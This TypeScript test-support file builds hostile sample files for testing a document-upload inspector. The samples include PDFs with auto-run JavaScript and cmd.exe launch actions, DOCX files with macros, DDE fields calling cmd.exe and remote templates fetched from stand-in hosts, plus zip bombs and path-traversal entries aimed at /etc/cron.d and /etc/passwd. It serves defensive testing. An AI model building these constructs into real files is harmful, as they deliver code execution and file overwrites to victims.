import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { PDFDocument, StandardFonts } from "pdf-lib";
import { eicarText } from "#lib/documents/inspect/eicar.ts";
import type { FindingCode } from "#lib/documents/inspect/inspection.ts";
import { fileLimits } from "#lib/documents/numbers.ts";
import type { FileRefusal } from "#lib/documents/schema.ts";
import { aCompoundFile, aDocx, docxEntries, field, relationship, relationships } from "#tests/support/hostile-docx.ts";
import { anObjectStream, aPdf } from "#tests/support/hostile-pdf.ts";
import { localEntry, makeZip, type ZipEntry } from "#tests/support/zip.ts";

/** A file that somebody means ill with, and what must be said of it. Built when asked for; none is stored anywhere. */
export type HostileFile = {
  what: string;
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
  answer: { refusal: FileRefusal } | { finds: FindingCode };
};

const mebibytes = (count: number) => Buffer.alloc(count * 1024 * 1024);
const refused = (refusal: FileRefusal) => ({ refusal });
const finds = (code: FindingCode) => ({ finds: code });

export const eicar = () => Buffer.from(eicarText());
export const aWindowsProgram = () => {
  const program = Buffer.alloc(1024, 0x90);
  program.write("MZ\x90\0\x03\0\0\0", 0, "latin1");
  program.writeUInt32LE(128, 60);
  program.write("PE\0\0", 128, "latin1");
  return program;
};
const aPng = () => Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489", "hex");
export const tooLarge = () => Buffer.alloc(fileLimits.bytes + 1, "text\n");

export const aGoodText = () => Buffer.from("Minutes of the meeting.\n\nNobody was absent.\n");

/** Made by a library that many programs use; its objects lie in object streams. */
export async function aGoodPdf(text = "The annual report", objectStreams = true): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let page = 1; page <= 3; page++)
    document.addPage([400, 300]).drawText(`${text}, page ${page}`, { font, size: 14 });
  return Buffer.from(await document.save({ useObjectStreams: objectStreams }));
}

async function aPdfWithScript(objectStreams: boolean): Promise<Buffer> {
  const document = await PDFDocument.load(await aGoodPdf());
  document.addJavaScript("hello", "app.alert('hello');");
  return Buffer.from(await document.save({ useObjectStreams: objectStreams }));
}

const SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const docxPlus = (...more: ZipEntry[]) => aDocx({ more });
const aSmallZip = () => makeZip([{ name: "a.txt", content: "hello" }]);
const hexadecimal = (data: Buffer) => Buffer.from(`${data.toString("hex")}>`);

/** An entry whose data holds another whole entry: the directory lists both, and the inner bytes count twice. */
function overlapping(): Buffer {
  const inner: ZipEntry = { name: "word/inner.bin", content: Buffer.alloc(5000, "x") };
  const good = docxEntries();
  const at = good.reduce((sum, entry) => sum + localEntry(entry).length, 0) + 30 + "word/outer.bin".length;
  return makeZip([...good, { name: "word/outer.bin", content: localEntry(inner), method: 0 }, { ...inner, at }]);
}

/** As published in 2019: one kernel of zeros that thousands of entries share. */
function sharedKernel(): Buffer {
  const kernel: ZipEntry = { name: "word/0", content: Buffer.alloc(200_000) };
  const good = docxEntries();
  const at = good.reduce((sum, entry) => sum + localEntry(entry).length, 0);
  const more = Array.from({ length: 200 }, (_, i) => ({ ...kernel, name: `word/${i + 1}`, at }));
  return makeZip([...good, kernel, ...more]);
}

const texts: HostileFile[] = [
  { what: "an empty file", name: "empty.txt", bytes: () => Buffer.alloc(0), answer: refused("empty") },
  {
    what: "a program that calls itself a text",
    name: "notes.txt",
    bytes: aWindowsProgram,
    answer: refused("name-disagrees"),
  },
  {
    what: "random bytes that call themselves a text",
    name: "notes.md",
    bytes: () => Buffer.concat([Buffer.alloc(9), randomBytes(5000)]),
    answer: refused("not-text"),
  },
  {
    what: "a text with a NUL in it",
    name: "a.txt",
    bytes: () => Buffer.from("Hello\0world"),
    answer: refused("not-text"),
  },
  {
    what: "a text that says UTF-16 and has half a character",
    name: "a.txt",
    bytes: () => Buffer.from("fffe410000d84200", "hex"),
    answer: refused("not-text"),
  },
  {
    what: "a PDF that calls itself a text",
    name: "report.txt",
    bytes: () => aPdf(),
    answer: refused("name-disagrees"),
  },
  {
    what: "a Word document that calls itself Markdown",
    name: "report.md",
    bytes: () => aDocx(),
    answer: refused("name-disagrees"),
  },
  { what: "the EICAR test file", name: "virus.txt", bytes: eicar, answer: finds("eicar") },
  {
    what: "the EICAR test file with line ends behind it",
    name: "virus.md",
    bytes: () => Buffer.concat([eicar(), Buffer.from(" \r\n\t")]),
    answer: finds("eicar"),
  },
];

const names: HostileFile[] = [
  { what: "a program", name: "setup.exe", bytes: aWindowsProgram, answer: refused("unknown-type") },
  {
    what: "a document with a second ending",
    name: "invoice.pdf.exe",
    bytes: () => aPdf(),
    answer: refused("unknown-type"),
  },
  {
    what: "a name that reads backwards",
    name: "invoice\u202efdp.exe",
    bytes: () => aPdf(),
    answer: refused("unknown-type"),
  },
  {
    what: "a stream behind a file, as Windows names it",
    name: "notes.txt:evil.exe",
    bytes: aGoodText,
    answer: refused("unknown-type"),
  },
  { what: "an ending hidden behind a NUL", name: "evil.exe\0.exe", bytes: aGoodText, answer: refused("unknown-type") },
  { what: "no name but an ending", name: ".txt", bytes: aGoodText, answer: refused("unknown-type") },
  { what: "nothing but dots", name: "../..", bytes: aGoodText, answer: refused("name-unusable") },
  { what: "no name", name: "", bytes: aGoodText, answer: refused("name-unusable") },
];

const pdfs: HostileFile[] = [
  { what: "a text that calls itself a PDF", name: "a.pdf", bytes: aGoodText, answer: refused("name-disagrees") },
  {
    what: "a picture that calls itself a PDF",
    name: "a.pdf",
    bytes: () => Buffer.concat([aPng(), Buffer.alloc(500)]),
    answer: refused("name-disagrees"),
  },
  {
    what: "a PDF behind other bytes",
    name: "a.pdf",
    bytes: () => Buffer.concat([Buffer.from("\0\x01\x02junk\n"), aPdf()]),
    answer: refused("broken"),
  },
  {
    what: "a PDF within a ZIP's first entry",
    name: "a.pdf",
    bytes: () => makeZip([{ name: "a", method: 0, content: aPdf() }]),
    answer: refused("name-disagrees"),
  },
  {
    what: "a PDF with a ZIP behind it",
    name: "a.pdf",
    bytes: () => Buffer.concat([aPdf(), aSmallZip()]),
    answer: refused("name-disagrees"),
  },
  {
    what: "a PDF that is a ZIP too, its own end being the comment",
    name: "a.pdf",
    bytes: pdfInsideZip,
    answer: refused("name-disagrees"),
  },
  {
    what: "a PDF that ends in the middle",
    name: "a.pdf",
    bytes: async () => half(await aGoodPdf()),
    answer: refused("broken"),
  },
  {
    what: "a PDF of nothing but its header",
    name: "a.pdf",
    bytes: () => Buffer.from("%PDF-1.7\n"),
    answer: refused("broken"),
  },
  {
    what: "a PDF with a second file behind it",
    name: "a.pdf",
    bytes: () => Buffer.concat([aPdf(), randomBytes(5000)]),
    answer: refused("broken"),
  },
  {
    what: "an encrypted PDF",
    name: "a.pdf",
    bytes: () => aPdf({ more: ["<< /Filter /Standard /V 2 /R 3 >>"], trailer: "/Encrypt 4 0 R /ID [<00> <00>]" }),
    answer: refused("encrypted"),
  },
  {
    what: "an encrypted PDF that writes the word in another way",
    name: "a.pdf",
    bytes: () => aPdf({ trailer: "/Encr#79pt << /Filter /Standard >>" }),
    answer: refused("encrypted"),
  },
  {
    what: "a PDF whose objects unpack without end",
    name: "a.pdf",
    bytes: () =>
      aPdf({
        more: [{ dictionary: "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", data: deflateSync(mebibytes(110)) }],
      }),
    answer: refused("too-large-unpacked"),
  },
  {
    what: "JavaScript, saved by a library",
    name: "a.pdf",
    bytes: () => aPdfWithScript(false),
    answer: finds("pdf-javascript"),
  },
  {
    what: "JavaScript in object streams, saved by a library",
    name: "a.pdf",
    bytes: () => aPdfWithScript(true),
    answer: finds("pdf-javascript"),
  },
  {
    what: "JavaScript at opening",
    name: "a.pdf",
    bytes: () => aPdf({ catalog: `/OpenAction ${SCRIPT}` }),
    answer: finds("pdf-javascript"),
  },
  {
    what: "JavaScript with escaped names",
    name: "a.pdf",
    bytes: () => aPdf({ catalog: "/OpenAction << /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>" }),
    answer: finds("pdf-javascript"),
  },
  {
    what: "JavaScript whose kind is an object of its own",
    name: "a.pdf",
    bytes: () => aPdf({ catalog: "/OpenAction << /S 4 0 R /JS (x) >>", more: ["/JavaScript"] }),
    answer: finds("pdf-javascript"),
  },
  {
    what: "JavaScript among comments",
    name: "a.pdf",
    bytes: () => aPdf({ catalog: "/OpenAction<</S%x\n/JavaScript%>>\n/JS(x)>>" }),
    answer: finds("pdf-javascript"),
  },
  {
    what: "JavaScript in an object that pretends to be the text of a stream",
    name: "a.pdf",
    bytes: () => aPdf({ more: [{ dictionary: "", data: Buffer.from(`9 0 obj ${SCRIPT} endobj`) }] }),
    answer: finds("pdf-javascript"),
  },
  {
    what: "JavaScript in an object stream packed twice",
    name: "a.pdf",
    bytes: () =>
      aPdf({
        more: [
          anObjectStream(
            { 9: SCRIPT },
            { filter: "/Filter [/ASCIIHexDecode /FlateDecode]", pack: (data) => hexadecimal(deflateSync(data)) },
          ),
        ],
      }),
    answer: finds("pdf-javascript"),
  },
  {
    what: "JavaScript in an object stream without its type, checksum and end",
    name: "a.pdf",
    bytes: () =>
      aPdf({ more: [anObjectStream({ 9: SCRIPT }, { type: "", pack: (data) => deflateSync(data).subarray(0, -5) })] }),
    answer: finds("pdf-javascript"),
  },
  {
    what: "JavaScript in a string that the offsets of an object stream lead into",
    name: "a.pdf",
    bytes: () => aPdf({ more: [{ dictionary: "/Type /ObjStm /N 1 /First 4", data: Buffer.from(`9 1 (${SCRIPT})`) }] }),
    answer: finds("pdf-javascript"),
  },
  {
    what: "an object stream that cannot be unpacked here",
    name: "a.pdf",
    bytes: () =>
      aPdf({ more: [{ dictionary: "/Type /ObjStm /N 1 /First 4 /Filter /JBIG2Decode", data: randomBytes(200) }] }),
    answer: finds("pdf-hidden-objects"),
  },
  {
    what: "a program started",
    name: "a.pdf",
    bytes: () => aPdf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
    answer: finds("pdf-launch"),
  },
  {
    what: "a program started by a link in an object stream",
    name: "a.pdf",
    bytes: () =>
      aPdf({
        page: "/Annots [9 0 R]",
        more: [anObjectStream({ 9: "<< /Subtype /Link /A << /S /L#61unch /Win << /F (cmd) >> >> >>" })],
      }),
    answer: finds("pdf-launch"),
  },
  {
    what: "an address asked at opening",
    name: "a.pdf",
    bytes: () => aPdf({ catalog: "/OpenAction 4 0 R", more: ["<< /S /URI /URI (https://example.org/) >>"] }),
    answer: finds("pdf-automatic-action"),
  },
  {
    what: "an address asked after going to a page",
    name: "a.pdf",
    bytes: () =>
      aPdf({
        catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>",
        more: ["<< /S /URI /URI (https://example.org/) >>"],
      }),
    answer: finds("pdf-automatic-action"),
  },
  {
    what: "a share asked when a page opens",
    name: "a.pdf",
    bytes: () => aPdf({ page: "/AA 4 0 R", more: ["<< /O << /S /GoToE /F (\\\\\\\\server\\\\share) >> >>"] }),
    answer: finds("pdf-automatic-action"),
  },
  {
    what: "a film with scripts",
    name: "a.pdf",
    bytes: () => aPdf({ page: "/Annots [<< /Subtype /RichMedia >>]" }),
    answer: finds("pdf-rich-media"),
  },
  {
    what: "a form in XML with a script",
    name: "a.pdf",
    bytes: () =>
      aPdf({
        catalog: "/AcroForm << /XFA [(template) 4 0 R] >>",
        more: [
          {
            dictionary: "/Filter /FlateDecode",
            data: deflateSync(
              Buffer.from('<template><script contentType="application/x-javascript">x</script></template>'),
            ),
          },
        ],
      }),
    answer: finds("pdf-form-script"),
  },
  {
    what: "an attached program",
    name: "a.pdf",
    bytes: () => attached(aWindowsProgram()),
    answer: finds("pdf-attached-program"),
  },
  { what: "the EICAR test file attached", name: "a.pdf", bytes: () => attached(eicar()), answer: finds("eicar") },
];

const half = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2);

function attached(content: Buffer): Buffer {
  const file = { dictionary: "/Filter /FlateDecode", data: deflateSync(content) };
  return aPdf({
    catalog: "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
    more: ["<< /Type /Filespec /F (a) /EF << /F 5 0 R >> >>", file],
  });
}

/** The ZIP's entries lie in a stream of the PDF, and its comment is the rest of the PDF. */
function pdfInsideZip(): Buffer {
  const prefix = Buffer.from("%PDF-1.7\n4 0 obj\n<< /Length 400 >>\nstream\n");
  const rest = aPdf().subarray(9);
  return makeZip([{ name: "a.txt", content: "hello" }], {
    prefix,
    comment: Buffer.concat([Buffer.from("\nendstream\nendobj\n"), rest]),
  });
}

const archives: HostileFile[] = [
  {
    what: "a text that calls itself a Word document",
    name: "a.docx",
    bytes: aGoodText,
    answer: refused("name-disagrees"),
  },
  { what: "a ZIP that is no Word document", name: "a.docx", bytes: aSmallZip, answer: refused("name-disagrees") },
  { what: "a ZIP of nothing", name: "a.docx", bytes: () => makeZip([]), answer: refused("name-disagrees") },
  {
    what: "a spreadsheet that calls itself a Word document",
    name: "a.docx",
    bytes: () => aDocx({ mainType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml" }),
    answer: refused("name-disagrees"),
  },
  {
    what: "an encrypted Word document",
    name: "a.docx",
    bytes: () => aCompoundFile("Root Entry", "EncryptionInfo", "EncryptedPackage"),
    answer: refused("encrypted"),
  },
  {
    what: "a Word document of 1997",
    name: "a.docx",
    bytes: () => aCompoundFile("Root Entry", "WordDocument"),
    answer: refused("name-disagrees"),
  },
  {
    what: "a Word document that ends in the middle",
    name: "a.docx",
    bytes: () => half(aDocx()),
    answer: refused("broken"),
  },
  {
    what: "more entries than allowed",
    name: "a.docx",
    bytes: () =>
      docxPlus(
        ...Array.from({ length: fileLimits.archive.entries - 3 }, (_, i) => ({
          name: `word/${i}.xml`,
          content: "<a/>",
        })),
      ),
    answer: refused("too-many-entries"),
  },
  {
    what: "a bomb",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/media/a.bmp", content: mebibytes(10) }),
    answer: refused("ratio"),
  },
  {
    what: "a bomb too large for its padding to help",
    name: "a.docx",
    bytes: () =>
      docxPlus(
        { name: "word/media/noise.bin", content: randomBytes(2_000_000), method: 0 },
        { name: "word/media/a.bmp", content: mebibytes(101) },
      ),
    answer: refused("too-large-unpacked"),
  },
  {
    what: "a bomb in many entries",
    name: "a.docx",
    bytes: () =>
      docxPlus(
        { name: "word/media/noise.bin", content: randomBytes(2_000_000), method: 0 },
        ...Array.from({ length: 11 }, (_, i) => ({ name: `word/media/${i}.bmp`, content: mebibytes(10) })),
      ),
    answer: refused("too-large-unpacked"),
  },
  {
    what: "a bomb that says it is small",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/media/a.bmp", content: mebibytes(2), size: 1000 }),
    answer: refused("broken"),
  },
  {
    what: "a bomb that says it is small and is too large",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/media/a.bmp", content: mebibytes(101), size: 1000 }),
    answer: refused("too-large-unpacked"),
  },
  {
    what: "a bomb within an archive within",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/media/a.png", content: makeZip([{ name: "b", content: mebibytes(10) }]) }),
    answer: refused("nested-archive"),
  },
  {
    what: "an archive behind a picture",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/media/a.png", content: Buffer.concat([aPng(), aSmallZip()]) }),
    answer: refused("nested-archive"),
  },
  {
    what: "a tar within",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/a.bin", content: tar() }),
    answer: refused("nested-archive"),
  },
  { what: "entries over one another", name: "a.docx", bytes: overlapping, answer: refused("broken") },
  { what: "two hundred entries that share their data", name: "a.docx", bytes: sharedKernel, answer: refused("broken") },
  {
    what: "a way out of the folder",
    name: "a.docx",
    bytes: () => docxPlus({ name: "../../etc/cron.d/x", content: "x" }),
    answer: refused("path-outside"),
  },
  {
    what: "a way out from further in",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/../../x", content: "x" }),
    answer: refused("path-outside"),
  },
  {
    what: "a way out with backslashes",
    name: "a.docx",
    bytes: () => docxPlus({ name: "..\\..\\x", content: "x" }),
    answer: refused("path-outside"),
  },
  {
    what: "a path from the root",
    name: "a.docx",
    bytes: () => docxPlus({ name: "/etc/passwd", content: "x" }),
    answer: refused("path-outside"),
  },
  {
    what: "a path from a drive",
    name: "a.docx",
    bytes: () => docxPlus({ name: "C:/x", content: "x" }),
    answer: refused("path-outside"),
  },
  {
    what: "a symbolic link",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/x", content: "/etc/passwd", mode: 0o120777 }),
    answer: refused("symlink"),
  },
  {
    what: "a device",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/x", mode: 0o020666 }),
    answer: refused("broken"),
  },
  {
    what: "the same name twice",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/document.xml", content: "<other/>" }),
    answer: refused("broken"),
  },
  {
    what: "the same name in other letters",
    name: "a.docx",
    bytes: () => docxPlus({ name: "WORD/Document.xml", content: "<other/>" }),
    answer: refused("broken"),
  },
  {
    what: "an encrypted entry",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/x", content: "x", flags: 1 }),
    answer: refused("encrypted"),
  },
  {
    what: "a strongly encrypted entry",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/x", content: "x", flags: 0x40 }),
    answer: refused("encrypted"),
  },
  {
    what: "another name in the local header",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/x.xml", content: "x", local: { name: "word/x.exe" } }),
    answer: refused("broken"),
  },
  {
    what: "another size in the local header",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/x.xml", content: "xyz", local: { size: 1 } }),
    answer: refused("broken"),
  },
  {
    what: "a wrong checksum",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/x.xml", content: "xyz", crc: 1 }),
    answer: refused("broken"),
  },
  {
    what: "another name in an extra field",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/x.xml", content: "x", extra: unicodePath("word/y.xml") }),
    answer: refused("broken"),
  },
  {
    what: "an entry that the closing record does not count",
    name: "a.docx",
    bytes: () => makeZip([...docxEntries(), { name: "word/x", content: "x" }], { count: 4 }),
    answer: refused("broken"),
  },
  {
    what: "an entry that no directory lists",
    name: "a.docx",
    bytes: () => makeZip(docxEntries(), { between: localEntry({ name: "word/x", content: "x" }) }),
    answer: refused("broken"),
  },
  {
    what: "bytes behind the packed data of an entry",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/x", content: "", packed: Buffer.from("0300aabbccdd", "hex") }),
    answer: refused("broken"),
  },
  {
    what: "a method that nobody unpacks",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/x", content: "x", method: 99 }),
    answer: refused("broken"),
  },
];

function unicodePath(name: string): Buffer {
  const data = Buffer.concat([Buffer.from([1, 0, 0, 0, 0]), Buffer.from(name)]);
  const head = Buffer.alloc(4);
  head.writeUInt16LE(0x7075, 0);
  head.writeUInt16LE(data.length, 2);
  return Buffer.concat([head, data]);
}

function tar(): Buffer {
  const block = Buffer.alloc(1024);
  block.write("a.txt");
  block.write("ustar\x0000", 257, "latin1");
  return block;
}

const macros = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
const template = (target: string) =>
  docxPlus({
    name: "word/_rels/settings.xml.rels",
    content: relationships(relationship("attachedTemplate", target, true)),
  });
const linked = (type: string, target: string, external = true) =>
  aDocx({ links: relationship(type, target, external) });
const QUOTED_DDE = field(" QUOTE 68 68 69 65 85 84 79 ");

const documents: HostileFile[] = [
  {
    what: "macros",
    name: "a.docx",
    bytes: () =>
      aDocx({ types: macros, more: [{ name: "word/vbaProject.bin", content: aCompoundFile("VBA", "_VBA_PROJECT") }] }),
    answer: finds("docx-macro"),
  },
  {
    what: "macros under another name",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/media/image1.bin", content: aCompoundFile("VBA", "_VBA_PROJECT") }),
    answer: finds("docx-macro"),
  },
  {
    what: "a document made for macros, renamed",
    name: "a.docx",
    bytes: () => aDocx({ mainType: "application/vnd.ms-word.document.macroEnabled.main+xml" }),
    answer: finds("docx-macro"),
  },
  {
    what: "a template from the web",
    name: "a.docx",
    bytes: () => template("https://example.org/t.dotm"),
    answer: finds("docx-remote-template"),
  },
  {
    what: "a template from a share",
    name: "a.docx",
    bytes: () => template("\\\\198.51.100.7\\share\\t.dotm"),
    answer: finds("docx-remote-template"),
  },
  {
    what: "a template from a share written as a file",
    name: "a.docx",
    bytes: () => template("file:///\\\\198.51.100.7\\share\\t.dotm"),
    answer: finds("docx-remote-template"),
  },
  {
    what: "a template whose kind is written with entities",
    name: "a.docx",
    bytes: () =>
      aDocx({
        links: relationship("attached&#84;emplat&#x65;", "https&#58;//example.org/t", true).replace(
          "External",
          "&#69;xternal",
        ),
      }),
    answer: finds("docx-remote-template"),
  },
  {
    what: "relationships in UTF-16",
    name: "a.docx",
    bytes: () =>
      docxPlus({
        name: "word/_rels/settings.xml.rels",
        content: Buffer.from(
          `\ufeff${relationships(relationship("attachedTemplate", "https://example.org/t", true))}`,
          "utf16le",
        ),
      }),
    answer: finds("docx-remote-template"),
  },
  {
    what: "an object from the web",
    name: "a.docx",
    bytes: () => linked("oleObject", "mhtml:https://example.org/x.html!x-usc:https://example.org/x.html"),
    answer: finds("docx-remote-object"),
  },
  {
    what: "a frame from the web",
    name: "a.docx",
    bytes: () => linked("frame", "https://example.org/"),
    answer: finds("docx-remote-object"),
  },
  {
    what: "a kind of relationship that nobody knows, to the web",
    name: "a.docx",
    bytes: () => linked("constructor", "https://example.org/"),
    answer: finds("docx-remote-object"),
  },
  {
    what: "a picture from the web",
    name: "a.docx",
    bytes: () => linked("image", "https://example.org/pixel.png"),
    answer: finds("docx-external-image"),
  },
  {
    what: "a document within, of another format",
    name: "a.docx",
    bytes: () => linked("aFChunk", "chunk.rtf", false),
    answer: finds("docx-alt-chunk"),
  },
  {
    what: "a control that runs",
    name: "a.docx",
    bytes: () => linked("control", "activeX/activeX1.xml", false),
    answer: finds("docx-activex"),
  },
  {
    what: "a package that holds any file",
    name: "a.docx",
    bytes: () =>
      docxPlus({ name: "word/embeddings/oleObject1.bin", content: aCompoundFile("Root Entry", "\x01Ole10Native") }),
    answer: finds("docx-ole-package"),
  },
  {
    what: "a program among the pictures",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/media/image1.png", content: aWindowsProgram() }),
    answer: finds("docx-program"),
  },
  {
    what: "the EICAR test file among the pictures",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/media/image1.png", content: eicar() }),
    answer: finds("eicar"),
  },
  {
    what: "a DDE field",
    name: "a.docx",
    bytes: () => aDocx({ body: field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ") }),
    answer: finds("docx-dde"),
  },
  {
    what: "a DDE field in pieces",
    name: "a.docx",
    bytes: () => aDocx({ body: field(" D", "DE", "AUTO c:\\\\cmd.exe") }),
    answer: finds("docx-dde"),
  },
  {
    what: "a DDE field computed by another field",
    name: "a.docx",
    bytes: () => aDocx({ body: field(QUOTED_DDE, " c:\\\\cmd.exe") }),
    answer: finds("docx-dde"),
  },
  {
    what: "a DDE field in short form",
    name: "a.docx",
    bytes: () => aDocx({ body: '<w:fldSimple w:instr="&#68;DE cmd"/>' }),
    answer: finds("docx-dde"),
  },
  {
    what: "a DDE field in a part of another name",
    name: "a.docx",
    bytes: () => docxPlus({ name: "word/footer.dat", content: `<w:ftr>${field("DDE cmd")}</w:ftr>` }),
    answer: finds("docx-dde"),
  },
  {
    what: "a text fetched by a field",
    name: "a.docx",
    bytes: () => aDocx({ body: field(' INCLUDETEXT "https://example.org/x" \\c HTML ') }),
    answer: finds("docx-remote-object"),
  },
  {
    what: "XML that defines its own words",
    name: "a.docx",
    bytes: () =>
      docxPlus({
        name: "word/x.xml",
        content: '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:instrText>&b;</w:instrText>',
      }),
    answer: refused("broken"),
  },
];

/** Every one but the file that is too large ({@link tooLarge}), which is refused while it is received. */
export const hostileFiles: readonly HostileFile[] = [...texts, ...names, ...pdfs, ...archives, ...documents];
